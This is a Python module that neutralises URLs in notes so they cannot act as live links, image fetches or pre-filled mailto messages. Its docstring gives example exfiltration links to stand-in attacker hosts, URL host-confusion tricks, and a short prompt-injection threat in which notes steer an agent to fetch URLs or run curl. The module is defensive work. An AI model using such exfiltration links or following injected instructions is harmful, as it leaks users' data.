"""Link neutralisation: a URL from a note leaves as a reference, not a live link.

Outbound access is denied by default. A note can hold a link whose query
string carries data out (``![](https://attacker.example/?q=…)`` renders as an
image fetch in many clients) or a URL an injected instruction wants an agent to
open. So, unless its host is on the token's allowlist, every absolute URL comes
back *defanged* — the convention incident responders use, reversible by a
person and inert for a renderer, a linkifier and a fetch tool:

- the scheme is bent: ``http`` → ``hxxp``, ``https`` → ``hxxps``, ``ftp(s)`` →
  ``fxp(s)``, ``ws(s)`` → ``wxs(s)``; any other scheme with an authority keeps
  its name and gets ``[:]//`` (``obsidian[:]//vault[.]x/…``);
- every dot of the host is bracketed: ``docs[.]example[.]com`` (all of them,
  so no fragment is itself a linkifiable domain such as ``mail.google``);
- the userinfo, port, path, query and fragment are kept as they were, so the
  reference still says where it pointed — except that a URL nested inside
  (``?next=https://…``) has its ``://`` bent to ``[:]//`` too. (A password in
  the userinfo has already been masked by redaction, which runs first — see
  ``pipeline``.)

Markdown constructs around a neutralised URL are taken apart so nothing
renders as a link or an image:

- ``[text](url "title")`` → ``text (hxxps://example[.]com/a "title")``
  (just the defanged URL when the text *is* the URL);
- ``![alt](url)`` → ``alt (image: hxxps://example[.]com/a.png)``; a ``data:``
  image becomes ``alt (image: data:image/png, 1,234 characters omitted)``;
- ``<https://example.com>`` → ``hxxps://example[.]com``;
- bare URLs — anything ``scheme://…`` (``https``, ``postgres``, ``s3``,
  ``obsidian``…), ``www.`` hosts, and a bare ``host.tld`` followed by a path, query,
  fragment or port (``attacker.example/collect?d=…``: chat clients and
  linkify-it turn it into a link, and its path can carry data out) — are
  defanged in place (``attacker[.]example/collect?d=…``), the scheme matched
  case-insensitively; so are URLs in raw HTML attributes and in reference
  definitions (``[id]: https://…`` keeps its shape with a defanged
  destination, which no client can fetch);
- already-neutral forms (``hxxps://``, ``scheme[:]//``, ``www[.]``) are read
  and left as they are, so neutralising twice changes nothing;
- protocol-relative ``//host/…`` is treated as absolute in link syntax and in
  ``src=``/``href=`` attributes.

- a ``mailto:`` with a query (``mailto:?body=…``, ``mailto:a@b.example?subject=…``)
  pre-fills a message a click sends, data included: its colon is bent
  (``mailto[:]?body=…``) wherever it stands, and in link syntax it becomes text.

Left alone: relative links (``/errors``, ``#section``, ``other.md``) and
wiki links, which point inside the workspace; a bare ``name.tld`` with nothing
after it (``readme.md``, ``example.com``: it carries no data, and bending every
file name would garble notes about code); ``mailto:`` links without a query and
``tel:`` links (nothing is fetched or pre-filled); e-mail addresses; every link
whose host is allowed; and every link to the server's own origin (``own_origin``:
scheme, host and port exactly, no userinfo), which is where the URLs the server
mints point — a review URL a person opens, a problem's ``type`` — and is no way
out of the workspace.

Allowlist entries are ``example.com`` (that host exactly) or
``*.example.com`` (any subdomain, not the apex — list both to allow both).
Hosts are compared lower-cased, IDNA-encoded, without a trailing dot or port.
A host holding ``%``, ``\\`` or anything a browser would reinterpret is never
allowed, and the host is read the way a browser reads it (after the *last*
``@``, ending at the first of ``/ ? # \\``), so ``https://allowed.com@evil.com``
and ``https://evil.com\\@allowed.com`` are both neutralised.

Inside code — fenced blocks and code spans — the Markdown is not
restructured (the backticks, fence lines and everything but the URL stay
byte-identical) but URLs are still defanged in place: a ``curl https://…``
line in a note is exactly what an injected instruction would ask an agent
with a shell to run. Allowlisted hosts stay live there too. Indented code
blocks are treated as prose (the canonical codec always writes fences).

Edges, on the safe side: a link whose text holds a code span, or link text
nested more than eight brackets deep, keeps its Markdown shape while its URL
is defanged in place (no client fetches an ``hxxps:`` destination); a link
destination longer than 4,096 characters is not read as link syntax, and its
URL is defanged as a bare one. Work is linear in the text's length.

Block anchors ``{#ULID}`` are never touched: only a URL's scheme and host are
rewritten and the link punctuation around it, and an anchor is neither.
"""

from __future__ import annotations

import bisect
import re
from dataclasses import dataclass
from typing import Iterable

PLACEHOLDER = re.compile(r"redacted:[a-z0-9-]+:[0-9a-f]+")   # a redaction placeholder without its brackets

_SCHEME_FOR = {"http": "hxxp", "https": "hxxps", "ftp": "fxp", "ftps": "fxps", "ws": "wxs", "wss": "wxss"}
_BENT = frozenset(_SCHEME_FOR.values())   # already neutral: neutralising twice changes nothing
_BENT_SUFFIXES = tuple(_BENT)
_LEFT_ALONE_SCHEMES = frozenset({"mailto", "tel"})
_SCHEME = re.compile(r"^([A-Za-z][A-Za-z0-9+.-]{0,31}):")
_HOST_OK = re.compile(r"^(?:[a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?)(?:\.[a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?)*$")
_IPV6 = re.compile(r"^\[[0-9a-f:.]+\]$")
_DOTS = str.maketrans({"\u3002": ".", "\uff0e": ".", "\uff61": "."})

# --- Markdown pieces -------------------------------------------------------
# Scanning is driven by literal triggers found with str.find ("[", "<", "//",
# "www."), then an anchored regex at each: a regex alternation or character
# class over the whole text is 10–50 times slower in Python's engine.

_DEST = re.compile(                                     # at the "(" right after a link's "]"
    r"\(\s*(?P<dest><[^<>\n]{0,4096}>|(?:[^\s()\\]|\\.|\((?:[^\s()\\]|\\.){0,4096}\)){0,4096})"
    r"(?P<title>\s+(?:\"(?:[^\"\\]|\\.){0,1024}\"|'(?:[^'\\]|\\.){0,1024}'|\((?:[^()\\]|\\.){0,1024}\)))?\s*\)"
)
_MAX_LINK_NESTING = 8
_AUTOLINK = re.compile(r"<(?P<url>[A-Za-z][A-Za-z0-9+.-]{1,31}:[^\s<>]*)>")
_DEFINITION_DEST = re.compile(r":[ \t]*<?(?P<url>//[^\s>]+)")   # after the "]" of "[id]" that starts a line
_WWW = re.compile(r"www\.", re.I)
# A bare host — labels and an alphabetic top-level label — with a path, query, fragment or port after
# it, not inside a longer name, a path, an address or an already-bent host (the look-behind).
_BARE_HOST = re.compile(r"(?<![\w@./:\[\]-])(?:[^\W_][\w-]{0,62}\.)+[^\W\d_]{2,63}(?=[/?#]|:\d)")
_MAILTO = re.compile(r"mailto:", re.I)
_URL_TAIL = re.compile(r"[^\s<>\"'`]+")
_SCHEME_CHARS = frozenset("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+.-")
_WWW_BLOCKERS = frozenset("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_/.@:+-")
_ATTR_BEFORE = re.compile(r"(?:src|href|srcset|poster|action|background|data)\s*=\s*[\"']?$", re.I)
_FENCE_OPEN = re.compile(r"((?:[ \t]*>)*[ \t]*)(`{3,}|~{3,})(.*)")
_TRAILING_PUNCT = "?!.,:;*_~'\""


@dataclass(frozen=True)
class NeutralizeResult:
    text: str
    neutralized: int   # how many URLs were defanged


# ---------------------------------------------------------------------------
# hosts and the allowlist


def normalize_host(host: str) -> str | None:
    """The comparable form of a host, or None when it is not a plain host name."""
    host = host.translate(_DOTS).rstrip(".").lower()
    if not host or "%" in host or "\\" in host:
        return None
    if _IPV6.match(host):
        return host
    try:
        ascii_host = host.encode("idna").decode("ascii") if not host.isascii() else host
    except UnicodeError:
        return None
    return ascii_host if _HOST_OK.match(ascii_host) else None


def normalize_allow_hosts(allow_hosts: Iterable[str]) -> tuple[str, ...]:
    """Validated allowlist entries: ``host`` or ``*.suffix`` with at least two labels."""
    entries: list[str] = []
    for raw in allow_hosts:
        wildcard = raw.startswith("*.")
        host = normalize_host(raw[2:] if wildcard else raw)
        if host is None or (wildcard and "." not in host):
            raise ValueError(f"allowlist entry {raw!r} is not a host name or '*.domain' with at least two labels")
        entries.append("*." + host if wildcard else host)
    return tuple(dict.fromkeys(entries))


def host_allowed(host: str | None, allow_hosts: Iterable[str]) -> bool:
    if host is None:
        return False
    name = normalize_host(host)
    if name is None:
        return False
    for entry in allow_hosts:
        if entry.startswith("*."):
            if name.endswith(entry[1:]) and len(name) > len(entry) - 1:
                return True
        elif name == entry:
            return True
    return False


@dataclass(frozen=True)
class _Parts:
    scheme: str          # "" for www. and protocol-relative
    sep: str             # "://", "//" or ""
    userinfo: str        # including the trailing "@", or ""
    host: str
    port: str            # including the leading ":", or ""
    rest: str            # path, query, fragment


def _split(url: str) -> _Parts | None:
    """Scheme/authority/rest the way a browser reads them; None without an authority."""
    scheme, sep, after = "", "", url
    m = None if url[:4].lower() == "www." else _SCHEME.match(url)
    if m:
        scheme = m.group(1)
        after = url[m.end():]
        if not after.startswith("//"):
            return None
        sep, after = "://", after[2:]
    elif url.startswith("//"):
        sep, after = "//", url[2:]
    elif not url.lower().startswith("www."):
        return None
    end = len(after)
    for stop in "/?#\\":
        i = after.find(stop)
        if i != -1:
            end = min(end, i)
    authority, rest = after[:end], after[end:]
    at = authority.rfind("@")
    userinfo, hostport = (authority[: at + 1], authority[at + 1:]) if at != -1 else ("", authority)
    if hostport.startswith("["):
        close = hostport.find("]")
        host, port = (hostport[: close + 1], hostport[close + 1:]) if close != -1 else (hostport, "")
    else:
        colon = hostport.rfind(":")
        host, port = (hostport[:colon], hostport[colon:]) if colon != -1 else (hostport, "")
    return _Parts(scheme, sep, userinfo, host, port, rest)


def url_host(url: str) -> str | None:
    parts = _split(url)
    return parts.host if parts else None


def defang_url(url: str) -> str:
    """``https://docs.example.com/a`` → ``hxxps://docs[.]example[.]com/a``; see the module docstring."""
    parts = _split(url)
    if parts is None or "[.]" in parts.host or parts.scheme.lower() in _BENT:
        return url   # no authority, or already defanged
    if parts.sep == "://":
        bent = _SCHEME_FOR.get(parts.scheme.lower())
        head = (bent if parts.scheme.islower() else bent.upper()) + "://" if bent else parts.scheme + "[:]//"
    else:
        head = parts.sep.replace("//", "[/]/") if parts.sep else ""
    host = parts.host.replace(".", "[.]")
    tail = (parts.port + parts.rest).replace("://", "[:]//")   # a URL nested in the query is bent too
    return f"{head}{parts.userinfo}{host}{tail}"


def _is_absolute(dest: str) -> bool:
    return bool(_SCHEME.match(dest)) or dest.startswith("//")


# ---------------------------------------------------------------------------
# the rewriter


def _find_all(text: str, needle: str, into: list[int]) -> None:
    i = text.find(needle)
    while i != -1:
        into.append(i)
        i = text.find(needle, i + 1)


def origin_of(url: str) -> tuple[str, str, str] | None:
    """(scheme, host, port) of an absolute URL without userinfo, lower-cased; None for anything else."""
    parts = _split(url)
    if parts is None or not parts.scheme or parts.userinfo:
        return None
    return parts.scheme.lower(), parts.host.lower(), parts.port


class _Rewriter:
    def __init__(self, allow_hosts: tuple[str, ...], own_origin: tuple[str, str, str] | None = None) -> None:
        self.allow = allow_hosts
        self.own_origin = own_origin
        self.count = 0

    def allowed(self, url: str) -> bool:
        if self.own_origin is not None and origin_of(url) == self.own_origin:
            return True
        return host_allowed(url_host(url), self.allow)

    def defang(self, url: str) -> str:
        scheme = _SCHEME.match(url)
        if self.allowed(url) or (scheme and scheme.group(1).lower() in _BENT):
            return url
        out = defang_url(url)
        if out != url:
            self.count += 1
        return out

    def destination(self, dest: str) -> str | None:
        """The neutralised form of a link destination, or None to leave the link as it is."""
        bare = dest[1:-1] if dest.startswith("<") and dest.endswith(">") else dest
        if not _is_absolute(bare):
            return None
        scheme = _SCHEME.match(bare)
        name = scheme.group(1).lower() if scheme else ""
        if name == "mailto" and "?" in bare:
            self.count += 1
            return _bent_mailto(bare)
        if name in _LEFT_ALONE_SCHEMES or self.allowed(bare):
            return None
        self.count += 1
        if name == "data":
            media = bare[5:].split(",", 1)[0].split(";", 1)[0] or "text/plain"
            return f"data:{media}, {len(bare):,} characters omitted"
        return defang_url(bare)   # no authority (javascript:, …): shown as text, no longer a link

    # -- prose: Markdown link syntax is taken apart, URLs defanged
    def prose(self, text: str, depth: int = 0) -> str:
        # link text nested deeper than this is treated like code (URLs defanged, no restructuring)
        return self._scan(text, markdown=depth < _MAX_LINK_NESTING, depth=depth)

    # -- code: URLs defanged in place, nothing else changes
    def code(self, text: str) -> str:
        return self._scan(text, markdown=False)

    def _scan(self, text: str, *, markdown: bool, depth: int = 0) -> str:
        triggers: list[int] = []
        pairs: dict[int, int] = {}
        if markdown:
            pairs = _pair_brackets(text)
            triggers.extend(pairs)
            _find_all(text, "<", triggers)
        _find_all(text, "//", triggers)
        if "w." in text or "W." in text or "w[.]" in text or "W[.]" in text:
            lowered = text.lower()
            if len(lowered) == len(text):          # same offsets (see secrets._candidates)
                _find_all(lowered, "www.", triggers)
                _find_all(lowered, "www[.]", triggers)
            else:
                triggers.extend(m.start() for m in _WWW.finditer(text))
        hosts = {m.start(): m.end() for m in _BARE_HOST.finditer(text)} if "." in text else {}
        triggers.extend(hosts)
        if ":" in text:
            triggers.extend(m.start() for m in _MAILTO.finditer(text))
        if not triggers:
            return text
        triggers.sort()
        out: list[str] = []
        position = 0
        for i in triggers:
            if i < position:
                continue
            found = self._at(text, i, position, markdown, pairs, depth, hosts)
            if found is None:
                continue
            start, end, replacement = found
            out.append(text[position:start])
            out.append(replacement)
            position = end
        out.append(text[position:])
        return "".join(out)

    def _at(self, text: str, i: int, floor: int, markdown: bool, pairs: dict[int, int],
            depth: int, hosts: dict[int, int]) -> tuple[int, int, str] | None:
        """What starts at trigger ``i`` (never before ``floor``): ``(start, end, replacement)``;
        ``hosts`` maps where a bare host starts to where it ends."""
        ch = text[i]
        if ch == "[":
            return self._bracket(text, i, pairs[i], floor, depth)
        if ch == "<":
            m = _AUTOLINK.match(text, i)
            if m is None:
                return None
            if m.group("url").split(":", 1)[0].lower().endswith(_BENT_SUFFIXES):
                return (i, m.end(), m.group(0))  # already neutral: a second pass reads it as the first did
            dest = self.destination(m.group("url"))
            return (i, m.end(), m.group(0) if dest is None else dest)
        if ch == "/":
            bent_colon = text[i - 3:i] == "[:]"          # scheme[:]// — already neutral
            if (i > 0 and text[i - 1] == ":") or bent_colon:   # scheme://
                colon = i - 3 if bent_colon else i - 1
                start = colon
                while start > floor and text[start - 1] in _SCHEME_CHARS and colon - start < 32:
                    start -= 1
                while start < colon and not text[start].isalpha():
                    start += 1          # a scheme starts with a letter: "1https://" is read as https://
                if start >= colon:
                    return None
                scheme = text[start:colon].lower()
                if bent_colon or scheme.endswith(_BENT_SUFFIXES):
                    # Already neutral: consume it unchanged, so a second pass reads the text as the first did.
                    for bent in _BENT_SUFFIXES:
                        if not bent_colon and scheme.endswith(bent):
                            start = colon - len(bent)
                    return self._bare(text, start, i + 2, keep=True)
                return self._bare(text, start, i + 2)
            if markdown and "=" in text[max(floor, i - 40):i] and _ATTR_BEFORE.search(text, max(floor, i - 40), i):
                m = _URL_TAIL.match(text, i)
                return (i, m.end(), self.defang(m.group(0)))
            return None
        if text[i:i + 7].lower() == "mailto:":
            m = _URL_TAIL.match(text, i)
            core, _tail = _trim_url(m.group(0))
            if "?" not in core:
                # No query: left alone, and consumed (a long run of "mailto:" is read once, not once
                # per trigger) — unless it holds a URL, which its own trigger defangs.
                return None if "//" in core else (i, i + len(core), core)
            self.count += 1
            return (i, i + len(core), _bent_mailto(core))
        if i in hosts and text[i:i + 4].lower() != "www.":
            return self._bare_host(text, i, hosts[i])
        # "www." or an already-neutral "www[.]" (found on the lower-cased text, same offsets)
        if i > 0 and text[i - 1] in _WWW_BLOCKERS:
            return None
        if text[i + 3] == "[":
            return self._bare(text, i, i + 6, keep=True)
        return self._bare(text, i, i + 4)

    def _bare(self, text: str, start: int, body: int, *, keep: bool = False) -> tuple[int, int, str] | None:
        m = _URL_TAIL.match(text, body)
        if m is None:
            return None
        core, _tail = _trim_url(text[start:m.end()])
        return (start, start + len(core), core if keep else self.defang(core))

    def _bare_host(self, text: str, start: int, host_end: int) -> tuple[int, int, str] | None:
        """``host.tld/path…`` without a scheme: the host's dots bracketed, the rest kept."""
        m = _URL_TAIL.match(text, start)
        core, _tail = _trim_url(m.group(0))
        host = text[start:host_end]
        if host_allowed(host, self.allow):
            return (start, start + len(core), core)
        self.count += 1
        rest = core[len(host):].replace("://", "[:]//")   # a URL nested in the query is bent too
        return (start, start + len(core), host.replace(".", "[.]") + rest)

    def _bracket(self, text: str, i: int, close: int, floor: int, depth: int) -> tuple[int, int, str] | None:
        line_start = text.rfind("\n", 0, i) + 1
        if i - line_start <= 3 and not text[line_start:i].strip(" \t"):
            m = _DEFINITION_DEST.match(text, close + 1)
            if m is not None:                            # [id]: //host/…
                return (m.start("url"), m.end("url"), self.defang(m.group("url")))
        m = _DEST.match(text, close + 1)
        if m is None:
            return None
        image = i > floor and text[i - 1] == "!"
        label = self.prose(text[i + 1:close], depth + 1)
        dest = self.destination(m.group("dest"))
        if dest is None:   # relative or allowed: the link stays, its text is still neutralised
            return (i, m.end(), "[" + label + text[close:m.end()])
        if image:
            return (i - 1, m.end(), f"{label} (image: {dest})" if label else f"(image: {dest})")
        title = " " + " ".join(m.group("title").split()) if m.group("title") else ""
        if label.strip() == dest:   # [https://x.com](https://x.com)
            return (i, m.end(), f"{dest}{title}")
        if PLACEHOLDER.fullmatch(label):   # keep a redaction placeholder recognisable
            label = f"[{label}]"
        return (i, m.end(), f"{label} ({dest}{title})")


def _bent_mailto(url: str) -> str:
    """``mailto:?body=…`` → ``mailto[:]?body=…``: read as text, never as a message to send."""
    return url[:6] + "[:]" + url[7:]


def _escaped(text: str, i: int) -> bool:
    """Whether the character at ``i`` is backslash-escaped (an odd run of backslashes before it)."""
    run = 0
    while i - run - 1 >= 0 and text[i - run - 1] == "\\":
        run += 1
    return run % 2 == 1


def _pair_brackets(text: str) -> dict[int, int]:
    """``{position of "[": position of its matching "]"}`` for unescaped, balanced brackets (one linear pass)."""
    opens: list[int] = []
    closes: list[int] = []
    _find_all(text, "[", opens)
    if not opens:
        return {}
    _find_all(text, "]", closes)
    events = sorted([(i, True) for i in opens] + [(i, False) for i in closes])
    stack: list[int] = []
    pairs: dict[int, int] = {}
    for position, is_open in events:
        if _escaped(text, position):
            continue
        if is_open:
            stack.append(position)
        elif stack:
            pairs[stack.pop()] = position
    return pairs


def _trim_url(url: str) -> tuple[str, str]:
    """GFM's autolink end rule: trailing punctuation and unbalanced ``)``/``]`` are not part of the URL."""
    end = len(url)
    parens = url.count("(") - url.count(")")
    brackets = url.count("[") - url.count("]")
    while end > 0:
        ch = url[end - 1]
        if ch in _TRAILING_PUNCT:
            end -= 1
        elif ch == ")" and parens < 0:
            parens += 1
            end -= 1
        elif ch == "]" and brackets < 0:
            brackets += 1
            end -= 1
        else:
            break
    return url[:end], url[end:]


def _fences(text: str) -> list[tuple[int, int]]:
    """``(start, end)`` of each fenced code block, opening and closing lines included."""
    if "```" not in text and "~~~" not in text:
        return []
    blocks: list[tuple[int, int]] = []
    position = 0
    candidates: list[int] = []
    _find_all(text, "```", candidates)
    _find_all(text, "~~~", candidates)
    candidates.sort()
    for c in candidates:
        if c < position:
            continue
        line_start = c
        while line_start > position and text[line_start - 1] in " \t>":
            line_start -= 1                     # only indentation and quote markers may precede a fence
        if line_start > 0 and text[line_start - 1] != "\n":
            continue
        line_end = text.find("\n", c)
        line_end = len(text) if line_end == -1 else line_end
        m = _FENCE_OPEN.fullmatch(text, line_start, line_end)
        if m is None or (m.group(2)[0] == "`" and "`" in m.group(3)):
            continue
        fence = m.group(2)
        close = re.compile(r"(?m)^(?:[ \t]*>)*[ \t]*" + re.escape(fence[0]) + "{" + str(len(fence)) + r",}[ \t]*\r?$")
        closing = close.search(text, line_end + 1) if line_end < len(text) else None
        end = len(text) if closing is None else closing.end()
        if end < len(text) and text[end] == "\n":
            end += 1
        blocks.append((line_start, end))
        position = end
    return blocks


def _segments(text: str) -> list[tuple[bool, str]]:
    """``(is_code, piece)`` in order: fenced blocks and code spans are code."""
    out: list[tuple[bool, str]] = []
    position = 0
    for start, end in _fences(text):
        if start > position:
            out.extend(_spans(text[position:start]))
        out.append((True, text[start:end]))
        position = end
    if position < len(text):
        out.extend(_spans(text[position:]))
    return out


_BACKTICKS = re.compile(r"`+")
_BLANK_LINE = re.compile(r"\n[ \t]*\n")


def _spans(text: str) -> list[tuple[bool, str]]:
    """Split prose into text and code spans (a run of N backticks closes at the next run of exactly N).

    A code span does not cross a blank line (the paragraph ends there).
    """
    if "`" not in text:
        return [(False, text)]
    blank_lines = [m.start() for m in _BLANK_LINE.finditer(text)]
    runs = list(_BACKTICKS.finditer(text))
    out: list[tuple[bool, str]] = []
    position = 0
    k = 0
    while k < len(runs):
        m = runs[k]
        k += 1
        if m.start() < position or (len(m.group(0)) == 1 and _escaped(text, m.start())):
            continue
        b = bisect.bisect_left(blank_lines, m.end())
        stop = blank_lines[b] if b < len(blank_lines) else len(text)
        j = k
        while j < len(runs) and runs[j].start() < stop and runs[j].group(0) != m.group(0):
            j += 1
        if j >= len(runs) or runs[j].start() >= stop:
            continue
        closer = runs[j]
        if m.start() > position:
            out.append((False, text[position:m.start()]))
        out.append((True, text[m.start():closer.end()]))
        position = closer.end()
        k = j + 1
    if position < len(text):
        out.append((False, text[position:]))
    return out


_MAX_PASSES = 4


def neutralize_links(text: str, allow_hosts: Iterable[str] = (), own_origin: str | None = None) -> NeutralizeResult:
    """``text`` with every non-allowlisted URL neutralised, and how many were; links to ``own_origin``
    (the server's base URL) stay.

    Output read again must come back unchanged, or a second outbound hop would
    rewrite what the first one produced. Removing a link's brackets can join
    text the scanner first read as two pieces (``user@<https://…>`` becomes
    ``user@hxxps://…``), so the scan repeats until the text is a fixpoint;
    ordinary text settles in one pass, and the second pass is the check.
    """
    allow = normalize_allow_hosts(allow_hosts)
    own = origin_of(own_origin) if own_origin else None
    count = 0
    for _ in range(_MAX_PASSES):
        rewriter = _Rewriter(allow, own)
        pieces = [rewriter.code(piece) if is_code else rewriter.prose(piece) for is_code, piece in _segments(text)]
        rewritten = "".join(pieces)
        count += rewriter.count
        if rewritten == text:
            break
        text = rewritten
    return NeutralizeResult(text, count)


def neutralize(text: str, allow_hosts: Iterable[str] = ()) -> str:
    """``text`` with every URL whose host is not in ``allow_hosts`` neutralised (see the module docstring)."""
    return neutralize_links(text, allow_hosts).text
